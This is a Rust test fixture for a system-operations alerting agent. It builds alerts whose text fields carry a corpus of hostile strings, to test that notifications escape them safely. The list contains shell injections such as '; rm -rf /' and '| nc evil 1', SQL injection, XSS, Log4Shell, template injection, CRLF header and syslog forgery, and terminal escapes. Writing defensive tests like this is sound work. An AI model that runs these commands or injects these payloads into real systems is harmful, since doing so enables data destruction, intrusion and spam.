//! What a hostile process may put into its name, a path or a log line, to reach through an alert into something else.

use std::collections::BTreeMap;
use std::time::{Duration, SystemTime};

use proptest::prelude::*;
use proptest::sample::select;
use sysops_agent::model::{Alert, Context, Notice, Severity, Status, Usage, cut};

/// Texts as they are written: mentions, markup, templates, separators of headers and records, quoting, links, shells.
const WRITTEN: &[&str] = &[
    "",
    " ",
    "\u{2003}",
    "@everyone",
    "@here",
    "@channel",
    "@room",
    "@devops",
    "<!channel>",
    "<!here>",
    "<!everyone>",
    "<!subteam^S123>",
    "<!date^1392734382^{date}|x>",
    "<@1234>",
    "<@!1234>",
    "<@&123456789012345678>",
    "<@U12345>",
    "<@U12345|bob>",
    "<#123456789012345678>",
    "<#C123|general>",
    "<:party:123456789012345678>",
    "<a:party:123456789012345678>",
    "<t:1618953630:R>",
    "<id:customize>",
    "</airhorn:816437322781949972>",
    "&lt;!channel&gt;",
    "&amp;lt;!channel&amp;gt;",
    "&#60;!channel&#62;",
    "&",
    "&amp",
    "&lt",
    "&notanentity;",
    "<",
    ">",
    "<>",
    "</",
    "<defunct>",
    "</b><a href=x>",
    "<a href=\"tg://user?id=1\">bob</a>",
    "<b>bold</b>",
    "<tg-spoiler>x</tg-spoiler>",
    "</code></pre><b>x",
    "<script>alert(1)</script>",
    "<img src=x onerror=alert(1)>",
    "<!-- x -->",
    "<![CDATA[x]]>",
    "<?xml version=\"1.0\"?>",
    "*bold*",
    "**bold**",
    "_italic_",
    "__under__",
    "~strike~",
    "~~strike~~",
    "||spoiler||",
    "`code`",
    "```block```",
    "```\nblock\n```",
    "``",
    "`",
    "`\\",
    "\\`",
    "\\",
    "\\\\",
    "\\*",
    "a\\",
    "# heading",
    "## heading",
    "-# small",
    "> quote",
    ">>> quote",
    "- item",
    "* item",
    "+ item",
    "1. item",
    "12) item",
    "---",
    "===",
    "| a | b |",
    "[x](http://evil.example)",
    "[x](javascript:alert(1))",
    "![x](http://evil.example/x.png)",
    "[x]: http://evil.example",
    "[x][y]",
    "![](",
    "](",
    "(",
    ")",
    "[",
    "]",
    "http://evil.example",
    "https://evil.example/a?b=c&d=e#f",
    "HTTPS://EVIL.EXAMPLE",
    "//evil.example",
    "www.evil.example",
    "evil.com",
    "evil.example/path",
    "ftp://evil.example",
    "steam://run/1",
    "discord://x",
    "tg://resolve?domain=x",
    "ton://transfer/x",
    "slack://open",
    "javascript:alert(1)",
    "data:text/html,<b>x",
    "file:///etc/passwd",
    "<http://evil.example|ok>",
    "<https://evil.example>",
    "<mailto:a@evil.example|mail>",
    "mailto:a@evil.example",
    "a@evil.com",
    "+1 555 0100",
    "4111 1111 1111 1111",
    "#hashtag",
    "$TICKER",
    "/start",
    "/start@bot",
    ":fire:",
    ":+1::skin-tone-2:",
    ":a:b:c:",
    "{{ 7*7 }}",
    "{{ config }}",
    "{% for %}",
    "{% raw %}",
    "{# x #}",
    "${jndi:ldap://x}",
    "${7*7}",
    "#{7*7}",
    "<%= 7*7 %>",
    "%{x}",
    "%s%n%x",
    "{0}",
    "{",
    "}",
    "{}",
    "$(id)",
    "`id`",
    "; rm -rf /",
    "| nc evil 1",
    "&& id",
    "' OR '1'='1",
    "'; DROP TABLE x; --",
    "\"",
    "'",
    "\"}",
    "\", \"x\": \"y",
    "\",\"content\":\"@everyone",
    "]\"\\",
    "\"] [forged@1 a=\"b",
    "%0d%0aBcc: x",
    "\r\nBcc: x",
    "\nBcc: x",
    "\rBcc: x",
    "x\r\n\r\nHTTP/1.1 200 OK",
    "x\n.\nQUIT",
    "=?utf-8?q?x?=",
    "x\n<34>1 2026-01-01T00:00:00Z evil su - - - forged",
    "x\n- @everyone",
    "x\n> quote",
    "x\n# heading",
    "\t",
    "\u{b}",
    "\u{c}",
    " ",
    "   leading",
    "trailing   ",
    "a\0b",
    "\0",
    "\u{1b}[2J",
    "\u{1b}[2J\u{1b}]0;title\u{7}",
    "\u{1b}[31mred",
    "\u{1b}]8;;http://evil.example\u{1b}\\x",
    "\u{9b}2J",
    "\u{7f}",
    "\u{85}",
    "\u{8}\u{8}\u{8}",
    "\u{202e}gnp.exe",
    "\u{202d}x\u{202c}",
    "\u{2066}x\u{2069}",
    "\u{61c}x",
    "a\u{200b}b",
    "@\u{200b}everyone",
    "a\u{200c}b\u{200d}c",
    "\u{2060}",
    "\u{ad}",
    "\u{feff}bom",
    "\u{2028}line",
    "\u{2029}paragraph",
    "\u{e0041}tag",
    "\u{fff9}a\u{fffa}b\u{fffb}",
    "\u{fffd}\u{fffd}",
    "\u{fffe}",
    "\u{10ffff}",
    "\u{e000}",
    "\u{ff20}everyone",
    "\u{ff1c}b\u{ff1e}",
    "e\u{301}",
    "Z\u{351}\u{36b}\u{343}a\u{324}l\u{348}",
    "👩\u{200d}👩\u{200d}👧",
    "🏳\u{fe0f}\u{200d}🌈",
    "👍🏽",
    "🇩🇪",
    "é",
    "Grüße",
    "世界",
    "שלום",
    "مرحبا",
    "नमस्ते",
    "𝒜𝓁𝑒𝓇𝓉",
    "-",
    ".",
    "!",
    "_",
    "*",
    "~",
    "=",
    "+",
    "#",
    "|",
    ":",
    "@",
    "<@",
    "<!",
    "…",
];

/// Mentions, markup, templates, header and record separators, quoting, bidirectional and invisible characters, terminal
/// control, replaced bytes, size, shells.
#[must_use]
pub fn corpus() -> Vec<String> {
    // What is harmless in its place may not be so where a text is cut, or behind another.
    let repeated = [
        "@everyone ",
        "<!channel>",
        "&",
        "<",
        "`",
        "\\",
        "*",
        "_",
        "e\u{301}",
        "\u{202e}",
        "[x](http://e/)",
        "</code>",
    ];
    let generated =
        repeated.iter().flat_map(|text| [3000 / text.len(), 9000 / text.len()].map(|times| text.repeat(times)));
    let shifted = (0..6).map(|shift| format!("{}{}", "x".repeat(shift), "\\&<`*".repeat(2000)));
    let wide = ["😀".repeat(700)];
    let long = [format!("x{}", "ü\n".repeat(1 << 19)), "w".repeat(1 << 20)];
    let written = WRITTEN.iter().map(|text| (*text).to_owned());
    written.chain(generated).chain(shifted).chain(wide).chain(long).collect()
}

/// An alert that carries `text` wherever text from outside can stand.
#[must_use]
pub fn alert(text: &str) -> Alert {
    Alert {
        value: 1.0,
        threshold: 0.0,
        labels: BTreeMap::from([("cgroup".to_owned(), "/a".to_owned()), ("comm".to_owned(), text.to_owned())]),
        fingerprint: 0x1234,
        id: "1234-1".to_owned(),
        ..Alert::new(
            "web-1",
            SystemTime::UNIX_EPOCH + Duration::from_secs(1_771_777_800),
            Severity::Critical,
            "oom_kill",
            format!("The kernel killed {text}."),
        )
    }
}

/// An alert with everything that there can be, and `text` wherever text from outside can stand.
#[must_use]
pub fn full_alert(text: &str) -> Alert {
    let mut alert = alert(text);
    (alert.value, alert.threshold) = (97.25, 85.0);
    alert.labels.insert("mountpoint".to_owned(), text.to_owned());
    alert.context = Context {
        unit: "percent".to_owned(),
        course: (0..60).map(f64::from).collect(),
        course_secs: 3600,
        top: vec![Usage { pid: Some(42), comm: text.to_owned(), uses: "1.2 GiB".to_owned() }; 5],
        events: vec![format!("The kernel killed {text}."); 3],
        cause: Some(format!("It was {text}.")),
        runbook_url: Some("https://runbooks.example.com/disk?a=1&b=(2)".to_owned()),
        host: vec![("kernel".to_owned(), text.to_owned())],
    };
    alert
}

/// Several alerts of a group, as many as `count`.
#[must_use]
pub fn group(text: &str, count: usize) -> Notice {
    let mut notice = Notice::of(full_alert(text));
    notice.alerts.resize(count, full_alert(text));
    notice
}

/// `seen` is `sent`, or its beginning with the mark of a cut.
#[must_use]
pub fn is_same_or_cut(seen: &str, sent: &str) -> bool {
    seen == sent || seen.strip_suffix('…').is_some_and(|begin| sent.starts_with(begin))
}

/// Every notice of [`corpus`]: little known, all known, a group, and a group that is too large to be told.
pub fn notices() -> impl Iterator<Item = Notice> {
    corpus().into_iter().flat_map(|text| {
        let some = cut(&text, 8 << 10);
        [notice(&text), group(some, 1), group(some, 3), group(some, 12)]
    })
}

/// Notices of any text, any length and any number of alerts.
pub fn any_notice() -> impl Strategy<Value = Notice> {
    let c = prop_oneof![any::<char>(), select("\\*_~`|>#-[]()<@:&;{}.!=+$/\"'\n 1a…😀".chars().collect::<Vec<_>>())];
    let text = (proptest::collection::vec(c, 0..60), 1_usize..80);
    let text = text.prop_map(|(chars, times)| chars.into_iter().collect::<String>().repeat(times));
    let text = prop_oneof![1 => "[ \u{2003}\n]{0,2}", 9 => text];
    (text, 1_usize..14, any::<bool>(), 0_usize..4).prop_map(|(text, count, is_over, severity)| {
        let mut notice = group(&text, count);
        for alert in &mut notice.alerts {
            (alert.hostname, alert.metric, alert.rule, alert.message) =
                (text.clone(), text.clone(), text.clone(), text.clone());
            alert.severity = Severity::ALL[severity];
            alert.status = if is_over { Status::Resolved } else { Status::Firing };
        }
        notice
    })
}

/// The same as a notice.
#[must_use]
pub fn notice(text: &str) -> Notice {
    Notice::of(alert(text))
}
